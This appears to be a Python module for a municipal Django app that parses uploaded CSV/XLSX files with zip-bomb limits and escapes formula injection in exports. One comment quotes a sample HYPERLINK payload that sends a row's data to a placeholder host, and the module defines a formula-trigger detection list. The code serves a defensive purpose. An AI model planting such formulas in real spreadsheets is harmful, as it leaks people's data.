"""Reading agencies' spreadsheets (CSV and XLSX) the same way for every import.

Real files differ: encodings (UTF-8 with or without BOM, Windows-1252 from old Excel), separators
(comma, semicolon, tab), header spellings ("Nama UMKM", "No. HP"), numbers typed as text and text
typed as numbers. This module turns any of them into (row number, {canonical column: text}) and
leaves the meaning of each column to the import that uses it.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from dataclasses import asdict, dataclass, field
from decimal import Decimal
from pathlib import Path
from typing import IO, Any

from django.db import transaction
from django.utils.translation import gettext as _

from malpro.core.exceptions import ApplicationError


class UnreadableFile(ApplicationError):
    """The file as a whole cannot be read (format, encoding, no header, required columns)."""

    status = 422


@dataclass
class RowIssue:
    row: int
    column: str
    message: str
    level: str = "error"  # "error": the row is skipped; "warning": kept, with a remark

    def as_dict(self) -> dict[str, Any]:
        return asdict(self)


def normalise_header(text: object) -> str:
    """'No. HP ' -> 'no_hp'; 'Nama  UMKM' -> 'nama_umkm'."""
    return re.sub(r"[^0-9a-z]+", "_", str(text or "").strip().lower()).strip("_")


@dataclass
class Columns:
    """The canonical columns of one kind of import, their aliases and which are required."""

    canonical: list[str]
    aliases: dict[str, list[str]] = field(default_factory=dict)
    required: set[str] = field(default_factory=set)

    def lookup(self) -> dict[str, str]:
        table = {normalise_header(c): c for c in self.canonical}
        for column, names in self.aliases.items():
            for name in names:
                table.setdefault(normalise_header(name), column)
        return table


@dataclass
class HeaderMatch:
    by_index: dict[int, str]  # column index in the file -> canonical column
    unknown: list[str]  # headers of the file that match nothing
    missing: list[str]  # required canonical columns not found


def match_headers(
    headers: list[str], columns: Columns, manual: dict[str, str] | None = None
) -> HeaderMatch:
    """Matches a file's headers to canonical columns, case- and space-insensitively and through
    aliases; `manual` maps a file header to a canonical column ("" ignores it)."""
    lookup = columns.lookup()
    manual = {normalise_header(k): v for k, v in (manual or {}).items()}
    by_index: dict[int, str] = {}
    unknown: list[str] = []
    for index, header in enumerate(headers):
        key = normalise_header(header)
        if not key:
            continue
        if key in manual:
            target = manual[key]
            if target and target in columns.canonical and target not in by_index.values():
                by_index[index] = target
            continue
        target = lookup.get(key)
        if target and target not in by_index.values():
            by_index[index] = target
        else:
            unknown.append(str(header))
    found = set(by_index.values())
    missing = [c for c in columns.canonical if c in columns.required and c not in found]
    return HeaderMatch(by_index=by_index, unknown=unknown, missing=missing)


def cell_text(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, dt.datetime):
        return value.date().isoformat()
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return str(value).strip()


class Table:
    """A header row and an iterator of (spreadsheet row number, cell texts)."""

    def __init__(
        self,
        headers: list[str],
        rows: Iterator[tuple[int, list[str]]],
        total: int | None,
        closer=None,
    ):
        self.headers = headers
        self.rows = rows
        self.total = total
        self._closer = closer

    def close(self) -> None:
        if self._closer:
            self._closer()

    def records(self, match: HeaderMatch) -> Iterator[tuple[int, dict[str, str]]]:
        for number, cells in self.rows:
            if not any(cells):
                continue  # blank lines are not rows
            record = {
                name: (cells[i] if i < len(cells) else "") for i, name in match.by_index.items()
            }
            yield number, record


def _decode(data: bytes) -> str:
    for encoding in ("utf-8-sig", "cp1252"):
        try:
            return data.decode(encoding)
        except UnicodeDecodeError:
            continue
    return data.decode("latin-1")  # every byte is a character: never fails


HEADER_SEARCH_ROWS = 10


def _find_header(rows: Iterator[tuple[int, list[str]]], columns: Columns | None):
    """The header row: the first non-empty row, or, when the columns are known, the first of
    the top rows naming at least two of them (agencies put titles above their tables)."""
    lookup = columns.lookup() if columns else {}
    seen: list[tuple[int, list[str]]] = []
    for number, cells in rows:
        if not any(cells):
            continue
        seen.append((number, cells))
        if not lookup or sum(normalise_header(c) in lookup for c in cells) >= 2:
            return number, cells, []
        if len(seen) >= HEADER_SEARCH_ROWS:
            break
    if not seen:
        return None, None, []
    number, cells = seen[0]
    return number, cells, seen[1:]


def _with_header(rows, columns, total_lines: int | None) -> Table:
    number, headers, pushed_back = _find_header(rows, columns)
    if headers is None:
        raise UnreadableFile(_("Berkas kosong: tidak ada baris judul kolom."))

    def remaining() -> Iterator[tuple[int, list[str]]]:
        yield from pushed_back
        yield from rows

    total = max(total_lines - number, 0) if total_lines is not None else None
    return Table([h.strip() for h in headers], remaining(), total)


def _lines(text: str) -> Iterator[str]:
    """The lines of text with their endings, one at a time. Unlike io.StringIO, which holds a
    second copy of the file at four bytes a character, this only slices the decoded text."""
    start, size = 0, len(text)
    while start < size:
        end = text.find("\n", start)
        if end < 0:
            yield text[start:]
            return
        yield text[start : end + 1]
        start = end + 1


def _csv_table(data: bytes, columns: Columns | None) -> Table:
    text = _decode(data)
    if "\n" not in text and "\r" in text:  # old Mac line endings
        text = text.replace("\r", "\n")
    first_line = text[: text.find("\n")] if "\n" in text else text
    delimiter = max([",", ";", "\t", "|"], key=first_line.count)
    if text.count(delimiter) > MAX_CELLS:  # more separators than cells allowed
        raise _too_many_cells()
    reader = csv.reader(_lines(text), delimiter=delimiter)

    def rows() -> Iterator[tuple[int, list[str]]]:
        try:
            for index, row in _bounded(enumerate(reader, start=1)):
                yield index, [cell.strip() for cell in row]
        except csv.Error as exc:
            raise UnreadableFile(_("Berkas CSV rusak: %(e)s") % {"e": exc}) from None

    return _with_header(rows(), columns, text.count("\n") + (not text.endswith("\n")))


# --- limits on uploaded spreadsheets ------------------------------------------------------------
# Checked before a file is parsed, so that a small file that expands enormously (a "zip bomb":
# an XLSX is a zip of XML) is refused in milliseconds instead of taking the server's memory and
# minutes of work. The numbers leave room for the city's whole register (80,000 businesses:
# ~13 MB as CSV, ~8 MB as XLSX expanding to ~60 MB). Past any of them the file is refused with
# an UnreadableFile (422) saying which limit and what to do.
MAX_UPLOAD_BYTES = 20 * 1024 * 1024  # the file as uploaded (CSV, or the compressed XLSX)
MAX_EXPANDED_BYTES = 100 * 1024 * 1024  # all parts of an XLSX once unzipped
MAX_COMPRESSION_RATIO = 100  # expanded/compressed, per part above RATIO_FLOOR_BYTES
RATIO_FLOOR_BYTES = 1024 * 1024  # small parts (styles, themes) may compress better
MAX_ZIP_ENTRIES = 1_000  # parts in an XLSX (a normal one has about ten)
MAX_SHARED_STRINGS_BYTES = 50 * 1024 * 1024  # xl/sharedStrings.xml once unzipped
MAX_SHARED_STRINGS = 1_000_000  # distinct texts in an XLSX's shared strings
MAX_ROWS = 200_000  # rows of a sheet or lines of a CSV, the header included
MAX_CELLS = 5_000_000  # cells of a workbook's sheets, or of a CSV


def _mb(size: int) -> str:
    return f"{size / (1024 * 1024):.0f}"


def _count(n: int) -> str:
    return f"{n:,}".replace(",", ".")


def _too_many_rows() -> UnreadableFile:
    return UnreadableFile(
        _("Berkas berisi lebih dari %(max)s baris: pecah menjadi beberapa berkas.")
        % {"max": _count(MAX_ROWS)},
        {"limit": "rows", "max": MAX_ROWS},
    )


def _too_many_cells() -> UnreadableFile:
    return UnreadableFile(
        _("Berkas berisi lebih dari %(max)s sel: pecah menjadi beberapa berkas.")
        % {"max": _count(MAX_CELLS)},
        {"limit": "cells", "max": MAX_CELLS},
    )


def _check_upload_size(size: int) -> None:
    if size > MAX_UPLOAD_BYTES:
        raise UnreadableFile(
            _(
                "Berkas terlalu besar (%(size)s MB): batasnya %(max)s MB. "
                "Pecah menjadi beberapa berkas."
            )
            % {"size": _mb(size), "max": _mb(MAX_UPLOAD_BYTES)},
            {"limit": "upload_bytes", "max": MAX_UPLOAD_BYTES},
        )


# The opening tags counted, with or without a namespace prefix ("<x:row ..."): plain byte
# counts, ten times faster than a regular expression. Text cannot hold a raw "<".
_SHARED_STRING = (b"<si>", b"<si ", b":si>", b":si ")
_ROW = (b"<row>", b"<row ", b":row>", b":row ")
_CELL = (b"<c>", b"<c ", b"<c/", b":c>", b":c ", b":c/")


def _count_tags(archive, info, checks: list[tuple[tuple[bytes, ...], int, Callable]]) -> list[int]:
    """Streams one part of the zip counting tags, and raises the error of the first check whose
    count passes its limit. zipfile never yields more than the part's declared size (a longer
    stream fails its CRC check)."""
    counts = [0] * len(checks)
    tail = b""
    with archive.open(info) as part:
        while True:
            chunk = part.read(1024 * 1024)
            data = tail + chunk
            # Up to the last "<": a tag never spans the cut (the patterns hold no "<" but the
            # first), and the rest waits for the next chunk.
            cut = data.rfind(b"<") if chunk else len(data)
            cut = max(cut, 0)
            head = data[:cut]
            for i, (tags, limit, error) in enumerate(checks):
                counts[i] += sum(head.count(tag) for tag in tags)
                if counts[i] > limit:
                    raise error()
            tail = data[cut:]
            if not chunk:
                return counts


def check_xlsx(data: bytes) -> None:
    """Refuses an XLSX whose parts are too many, too large once unzipped, unusually
    compressible, or that holds too many shared strings, rows or cells, before any XML of it
    is parsed. Sizes come from the zip's directory; counts from one streaming pass over the
    shared strings and the sheets (regular expressions, no XML parser)."""
    _check_upload_size(len(data))
    try:
        archive = zipfile.ZipFile(io.BytesIO(data))
    except (zipfile.BadZipFile, OSError, ValueError):
        raise UnreadableFile(
            _(
                "Berkas XLSX tidak dapat dibuka (bukan berkas zip). "
                "Simpan ulang sebagai .xlsx atau CSV."
            )
        ) from None
    with archive:
        entries = archive.infolist()
        if len(entries) > MAX_ZIP_ENTRIES:
            raise UnreadableFile(
                _("Berkas XLSX ini tidak wajar: berisi %(n)s bagian (batasnya %(max)s).")
                % {"n": _count(len(entries)), "max": _count(MAX_ZIP_ENTRIES)},
                {"limit": "zip_entries", "max": MAX_ZIP_ENTRIES},
            )
        expanded = sum(e.file_size for e in entries)
        if expanded > MAX_EXPANDED_BYTES:
            raise UnreadableFile(
                _(
                    "Isi berkas XLSX terlalu besar setelah dibuka (%(size)s MB, batasnya "
                    "%(max)s MB). "
                    "Pecah menjadi beberapa berkas atau simpan sebagai CSV."
                )
                % {"size": _mb(expanded), "max": _mb(MAX_EXPANDED_BYTES)},
                {"limit": "expanded_bytes", "max": MAX_EXPANDED_BYTES},
            )
        for entry in entries:
            ratio = entry.file_size / max(entry.compress_size, 1)
            if entry.file_size > RATIO_FLOOR_BYTES and ratio > MAX_COMPRESSION_RATIO:
                raise UnreadableFile(
                    _(
                        "Berkas XLSX ini tidak wajar: isinya mengembang %(ratio)s kali saat "
                        "dibuka (batasnya %(max)s kali). Simpan ulang dari Excel atau gunakan CSV."
                    )
                    % {"ratio": _count(int(ratio)), "max": MAX_COMPRESSION_RATIO},
                    {"limit": "compression_ratio", "max": MAX_COMPRESSION_RATIO},
                )
        names = {e.filename.lower(): e for e in entries}
        shared = names.get("xl/sharedstrings.xml")
        sheets = [
            e for n, e in names.items() if n.startswith("xl/worksheets/") and n.endswith(".xml")
        ]
        try:
            if shared is not None:
                if shared.file_size > MAX_SHARED_STRINGS_BYTES:
                    raise UnreadableFile(
                        _("Teks berkas XLSX terlalu besar (%(size)s MB, batasnya %(max)s MB).")
                        % {"size": _mb(shared.file_size), "max": _mb(MAX_SHARED_STRINGS_BYTES)},
                        {"limit": "shared_strings_bytes", "max": MAX_SHARED_STRINGS_BYTES},
                    )
                _count_tags(
                    archive, shared, [(_SHARED_STRING, MAX_SHARED_STRINGS, _too_many_texts)]
                )
            cells = 0
            for sheet in sheets:
                # Rows per sheet; cells over the whole workbook.
                _rows, in_sheet = _count_tags(
                    archive,
                    sheet,
                    [(_ROW, MAX_ROWS, _too_many_rows), (_CELL, MAX_CELLS - cells, _too_many_cells)],
                )
                cells += in_sheet
        except (zipfile.BadZipFile, zlib.error, EOFError, NotImplementedError, OSError):
            raise UnreadableFile(
                _("Berkas XLSX rusak. Simpan ulang sebagai .xlsx atau CSV.")
            ) from None


def _too_many_texts() -> UnreadableFile:
    return UnreadableFile(
        _("Berkas XLSX memuat terlalu banyak teks berbeda (lebih dari %(max)s).")
        % {"max": _count(MAX_SHARED_STRINGS)},
        {"limit": "shared_strings", "max": MAX_SHARED_STRINGS},
    )


def _bounded(rows: Iterator[tuple[int, list]]) -> Iterator[tuple[int, list]]:
    """Counts rows and cells as they are read, and stops past MAX_ROWS or MAX_CELLS."""
    cells = 0
    for number, row in rows:
        if number > MAX_ROWS:
            raise _too_many_rows()
        cells += len(row)
        if cells > MAX_CELLS:
            raise _too_many_cells()
        yield number, row


def _xlsx_table(data: bytes, columns: Columns | None) -> Table:
    import openpyxl
    from openpyxl.utils.exceptions import InvalidFileException

    check_xlsx(data)
    try:
        workbook = openpyxl.load_workbook(io.BytesIO(data), read_only=True, data_only=True)
    except (InvalidFileException, zipfile.BadZipFile, KeyError, OSError, ValueError) as exc:
        raise UnreadableFile(
            _("Berkas XLSX tidak dapat dibuka (%(e)s). Simpan ulang sebagai .xlsx atau CSV.")
            % {"e": exc.__class__.__name__}
        ) from None
    sheet = workbook.active
    if not hasattr(sheet, "iter_rows"):  # a chart sheet
        workbook.close()
        raise UnreadableFile(_("Lembar aktif berkas XLSX bukan tabel."))
    # The sheet's own <dimension> may be wrong (rows cut off) or huge (every row padded to
    # column XFD): rows are read as they are in the file.
    sheet.reset_dimensions()

    def values() -> Iterator[tuple[int, tuple]]:
        try:
            yield from enumerate(sheet.iter_rows(values_only=True), start=1)
        except (zipfile.BadZipFile, zlib.error, EOFError, KeyError, ValueError) as exc:
            raise UnreadableFile(
                _("Berkas XLSX rusak (%(e)s). Simpan ulang sebagai .xlsx atau CSV.")
                % {"e": exc.__class__.__name__}
            ) from None

    def rows() -> Iterator[tuple[int, list[str]]]:
        for index, row in _bounded(values()):
            yield index, [cell_text(c) for c in row]

    try:
        table = _with_header(rows(), columns, None)
    except UnreadableFile:
        workbook.close()
        raise
    table._closer = workbook.close
    return table


def open_table(
    source: str | Path | IO[bytes], filename: str | None = None, columns: Columns | None = None
) -> Table:
    """Opens a CSV or XLSX file (a path or an open binary file) as a Table; with `columns`,
    title rows above the header are skipped."""
    name = filename or str(getattr(source, "name", source))
    suffix = Path(name).suffix.lower()
    if suffix not in (".csv", ".txt", ".xlsx", ".xlsm"):
        raise UnreadableFile(
            _("Format berkas %(ext)s tidak didukung: gunakan CSV atau XLSX.")
            % {"ext": suffix or "?"}
        )
    if isinstance(source, str | Path):
        try:
            handle: IO[bytes] = open(source, "rb")  # noqa: SIM115 - closed below or by Table
        except OSError as exc:
            raise UnreadableFile(
                _("Berkas tidak dapat dibuka: %(e)s") % {"e": exc.strerror or exc}
            ) from None
    else:
        handle = source
    data = handle.read(MAX_UPLOAD_BYTES + 1)  # no more than the limit is ever read
    if isinstance(source, str | Path):
        handle.close()
    _check_upload_size(len(data) if len(data) <= MAX_UPLOAD_BYTES else _size_of(source, data))
    if suffix in (".xlsx", ".xlsm"):
        if not data:
            raise UnreadableFile(_("Berkas kosong: tidak ada baris judul kolom."))
        return _xlsx_table(data, columns)
    if not data.strip():
        raise UnreadableFile(_("Berkas kosong: tidak ada baris judul kolom."))
    return _csv_table(data, columns)


def _size_of(source, data: bytes) -> int:
    """The size of a file larger than the limit, for the message (without reading it)."""
    size = getattr(source, "size", None)
    if isinstance(source, str | Path):
        try:
            size = Path(source).stat().st_size
        except OSError:
            size = None
    return size if isinstance(size, int) and size > len(data) else len(data)


# --- writing ------------------------------------------------------------------------------------
# Every CSV and XLSX Malpro produces goes through the writers below, because their cells hold
# text that people outside the city hall typed (business names, account names, addresses).
#
# CSV: a cell that starts with one of FORMULA_TRIGGERS is read by Excel, LibreOffice and Google
# Sheets as a formula (`=HYPERLINK("http://x"&A1,"klik")` sends the row's data away). Such text
# gets a leading single quote, as OWASP's "CSV Injection" page advises: the spreadsheet shows it
# as text. Real numbers (int, float, Decimal: amounts, counts) are written as they are, so a
# negative amount stays a number; a *text* that looks like "-5" is text and gets the quote.
#
# XLSX: every text cell is written as a string (data_type "s", an inline string), never as a
# formula, whatever it starts with, and the cells that would have been formulas carry Excel's
# "quotePrefix" flag so that editing them in Excel does not turn them into one. Characters XML
# cannot hold (NUL and other control characters) are dropped instead of failing the export.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_NUMBER_TYPES = (int, float, Decimal)


def neutralise(text: str) -> str:
    """'=1+1' -> "'=1+1"; any other text unchanged."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def _plain(value: object) -> object:
    """A cell's value as a number (kept), text, or ""."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return _("ya") if value else _("tidak")
    if isinstance(value, _NUMBER_TYPES):
        return value
    if isinstance(value, dt.datetime):
        return value.isoformat()
    if isinstance(value, dt.date):
        return value.isoformat()
    return str(value)


def csv_cell(value: object) -> object:
    value = _plain(value)
    return neutralise(value) if isinstance(value, str) else value


class CsvWriter:
    """csv.writer with every text cell neutralised (see above)."""

    def __init__(self, out: IO[str] | Any, **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[object]):
        return self._writer.writerow([csv_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


class _Echo:
    def write(self, value):
        return value


BOM = "\ufeff"  # so Excel opens a UTF-8 file with the right characters


def csv_stream(
    header: list[str], rows: Iterable[Iterable[object]], *, bom: bool = True
) -> Iterator[str]:
    """The lines of a CSV, one at a time (for a StreamingHttpResponse)."""
    writer = CsvWriter(_Echo())
    if bom:
        yield BOM
    yield writer.writerow(header)
    for row in rows:
        yield writer.writerow(row)


def csv_text(header: list[str], rows: Iterable[Iterable[object]], *, bom: bool = True) -> str:
    return "".join(csv_stream(header, rows, bom=bom))


def _sheet_title(title: str) -> str:
    title = re.sub(r"[\[\]:*?/\\]", "-", _XML_ILLEGAL.sub("", str(title))).strip("'") or "Sheet"
    return title[:31]


class XlsxSheet:
    def __init__(self, book: XlsxBook, sheet, text_format: bool):
        self._book = book
        self._sheet = sheet
        self._text_format = text_format

    def append(self, row: Iterable[object]) -> None:
        self._sheet.append([self._cell(raw) for raw in row])

    def _cell(self, raw: object):
        from openpyxl.cell import WriteOnlyCell
        from openpyxl.cell.cell import ERROR_CODES

        value = _plain(raw)
        forced = False
        if isinstance(value, str):
            value = _XML_ILLEGAL.sub("", value)
            forced = value.startswith(FORMULA_TRIGGERS) or value in ERROR_CODES
        if not (forced or self._text_format):
            return value  # openpyxl writes other text as a string and numbers as numbers
        cell = WriteOnlyCell(self._sheet)
        if forced:
            # Past openpyxl's value setter, which makes any text starting with "=" a formula.
            cell._value, cell.data_type = value, "s"
            cell.quotePrefix = True
        else:
            cell.value = value
        if self._text_format:
            cell.number_format = "@"
        return cell


class XlsxBook:
    """A workbook written row by row (openpyxl's write-only mode) with safe cells."""

    def __init__(self):
        import openpyxl

        self._workbook = openpyxl.Workbook(write_only=True)

    def sheet(self, title: str, *, text_format: bool = False) -> XlsxSheet:
        """A new sheet; text_format marks its cells as text ("@"), for templates people fill in
        (so Excel keeps the leading zeros of NIK, NIB and phone numbers)."""
        return XlsxSheet(self, self._workbook.create_sheet(_sheet_title(title)), text_format)

    def to_bytes(self) -> bytes:
        out = io.BytesIO()
        self._workbook.save(out)
        return out.getvalue()


def xlsx_bytes(header: list[str], rows: Iterable[Iterable[object]], *, title: str) -> bytes:
    """A one-sheet workbook."""
    book = XlsxBook()
    sheet = book.sheet(title)
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    return book.to_bytes()


XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def write_issues_csv(issues: Iterable[RowIssue], out: IO[str]) -> None:
    writer = CsvWriter(out)
    writer.writerow(["baris", "kolom", "tingkat", "pesan"])
    for issue in issues:
        level = _("galat") if issue.level == "error" else _("peringatan")
        writer.writerow([issue.row, issue.column, level, issue.message])


@dataclass
class ImportResult:
    """What an import did: the counts of its summary line and every row's issue."""

    total: int = 0
    created: int = 0
    updated: int = 0
    unchanged: int = 0
    rejected: int = 0
    issues: list[RowIssue] = field(default_factory=list)

    def summary(self) -> str:
        return (
            f"created={self.created} updated={self.updated} unchanged={self.unchanged} "
            f"rejected={self.rejected}"
        )


class _DryRun(Exception):
    pass


@contextmanager
def one_transaction(*, dry_run: bool):
    """The whole import in one transaction (a failure leaves nothing half-written), rolled back
    at the end of a dry run."""
    try:
        with transaction.atomic():
            yield
            if dry_run:
                raise _DryRun
    except _DryRun:
        pass


def print_issues(result: ImportResult, err, report_path: str | None = None, limit: int = 20):
    """For the import commands: the first issues on stderr, all of them in a CSV report."""
    for issue in result.issues[:limit]:
        level = "ERROR" if issue.level == "error" else "warning"
        err.write(f"row {issue.row} [{issue.column}] {level}: {issue.message}")
    if len(result.issues) > limit:
        err.write(f"... and {len(result.issues) - limit} more (use --report)")
    if report_path:
        with open(report_path, "w", newline="", encoding="utf-8") as out:
            write_issues_csv(result.issues, out)
